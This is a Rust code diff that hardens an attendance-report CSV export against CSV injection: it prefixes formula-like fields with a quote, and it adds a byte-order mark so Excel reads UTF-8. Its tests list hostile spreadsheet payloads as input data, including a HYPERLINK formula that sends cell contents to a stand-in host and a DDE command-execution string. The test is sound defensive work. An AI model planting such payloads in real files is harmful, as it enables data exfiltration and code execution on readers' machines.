@@ -84,9 +84,36 @@ fn role_word(role: Role) -> &'static str {
 /// A report as CSV: a header row ([`REPORT_COLUMNS`]), one row per person (`status`
 /// `present` or `left`), and one per absent roster entry (`absent`, with the roster's
 /// name and id). Times are UTC, ISO 8601.
+///
+/// Names and ids are the students' own words, and teachers open the file in Excel, WPS or
+/// LibreOffice: a text field that starts like a formula (`=`, `+`, `-`, `@`, a tab or a
+/// carriage return, or their full-width forms) is written with a `'` before it, so a name
+/// such as `=HYPERLINK(...)` is shown as text and never evaluated (CSV injection).
 pub fn report_csv(report: &AttendanceReport) -> String {
     // Writing into memory cannot fail; an error would only mean a bug in the csv crate.
     write_csv(report).unwrap_or_default()
+}
+
+/// [`report_csv`] as a file's bytes: UTF-8 with a byte-order mark, which Excel needs to read
+/// UTF-8 (without one it reads the system's code page, and Chinese names come out garbled).
+pub fn report_csv_file(report: &AttendanceReport) -> Vec<u8> {
+    let mut bytes = "\u{feff}".as_bytes().to_vec();
+    bytes.extend_from_slice(report_csv(report).as_bytes());
+    bytes
+}
+
+/// Characters a spreadsheet reads as the start of a formula at a cell's beginning.
+const FORMULA_STARTS: &[char] = &[
+    '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+];
+
+/// A text field as it is safe to open in a spreadsheet: with a `'` before a formula's start.
+pub(crate) fn text_cell(text: &str) -> String {
+    if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
 }
 
 fn write_csv(report: &AttendanceReport) -> Result<String, Box<dyn std::error::Error>> {
@@ -100,10 +127,10 @@ fn write_csv(report: &AttendanceReport) -> Result<String, Box<dyn std::error::Er
         };
         w.write_record([
             status.to_owned(),
-            r.identity.clone(),
-            r.name.clone(),
+            text_cell(&r.identity),
+            text_cell(&r.name),
             role_word(r.role).to_owned(),
-            r.roster_name.clone().unwrap_or_default(),
+            text_cell(r.roster_name.as_deref().unwrap_or_default()),
             utc(r.first_join_ms),
             r.last_leave_ms.map(utc).unwrap_or_default(),
             format!("{:.1}", r.minutes),
@@ -119,10 +146,10 @@ fn write_csv(report: &AttendanceReport) -> Result<String, Box<dyn std::error::Er
     for a in &report.absent {
         let mut row = vec![String::new(); REPORT_COLUMNS.len()];
         row[0] = "absent".to_owned();
-        row[1] = a.id.clone().unwrap_or_default();
-        row[2] = a.name.clone();
+        row[1] = text_cell(a.id.as_deref().unwrap_or_default());
+        row[2] = text_cell(&a.name);
         row[3] = "student".to_owned();
-        row[4] = a.name.clone();
+        row[4] = text_cell(&a.name);
         w.write_record(&row)?;
     }
     let bytes = w.into_inner().map_err(|e| e.to_string())?;
@@ -174,6 +201,89 @@ mod tests {
         assert_eq!(minutes(0), 0.0);
         assert_eq!(minutes(90_000), 1.5);
         assert_eq!(minutes(62_999), 1.0);
+    }
+
+    #[test]
+    fn names_that_start_like_a_formula_are_written_as_text() {
+        let row = |name: &str| AttendanceRow {
+            identity: format!("@{name}"),
+            name: name.into(),
+            role: Role::Student,
+            roster_name: Some(name.into()),
+            first_join_ms: 0,
+            last_leave_ms: None,
+            minutes: 1.0,
+            reconnects: 0,
+            roll_calls_answered: 0,
+            roll_calls: 0,
+            hands_raised: 0,
+            chat_messages: 0,
+            quiz_correct: 0,
+            quiz_questions: 0,
+        };
+        let hostile = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
+            "=cmd|' /C calc'!A0",
+            "+1+1",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1",
+            "\u{ff1d}1+1",
+        ];
+        let report = AttendanceReport {
+            room: "r".into(),
+            made_ms: 0,
+            rows: hostile.iter().map(|n| row(n)).collect(),
+            absent: vec![RosterEntry {
+                name: "=1+1".into(),
+                id: Some("-5".into()),
+            }],
+        };
+        let text = report_csv(&report);
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+        assert_eq!(rows.len(), hostile.len() + 1);
+        for (got, name) in rows.iter().zip(hostile) {
+            assert_eq!(&got[1], format!("'@{name}"));
+            assert_eq!(&got[2], format!("'{name}"));
+            assert_eq!(&got[4], format!("'{name}"));
+            // Numbers stay numbers.
+            assert_eq!(&got[7], "1.0");
+        }
+        let absent = &rows[hostile.len()];
+        assert_eq!(
+            (&absent[1], &absent[2], &absent[4]),
+            ("'-5", "'=1+1", "'=1+1")
+        );
+        // Plain names are untouched, and no field of any row starts like a formula.
+        assert_eq!(text_cell("Ana Li"), "Ana Li");
+        assert_eq!(text_cell("张三"), "张三");
+        assert_eq!(text_cell("Ana-Li=1"), "Ana-Li=1");
+        for record in &rows {
+            for field in record {
+                assert!(!field.starts_with(FORMULA_STARTS), "{field:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn the_file_has_a_byte_order_mark_for_excel_and_reads_back() {
+        let report = AttendanceReport {
+            room: "r".into(),
+            made_ms: 0,
+            rows: vec![],
+            absent: vec![RosterEntry {
+                name: "张三".into(),
+                id: Some("20230101".into()),
+            }],
+        };
+        let bytes = report_csv_file(&report);
+        assert!(bytes.starts_with(b"\xEF\xBB\xBFstatus,"));
+        assert_eq!(&bytes[3..], report_csv(&report).as_bytes());
+        let mut reader = csv::Reader::from_reader(&bytes[..]);
+        assert_eq!(&reader.headers().expect("header")[0], "status");
+        let row = reader.records().next().expect("a row").expect("row");
+        assert_eq!((&row[0], &row[1], &row[2]), ("absent", "20230101", "张三"));
     }
 
     #[test]
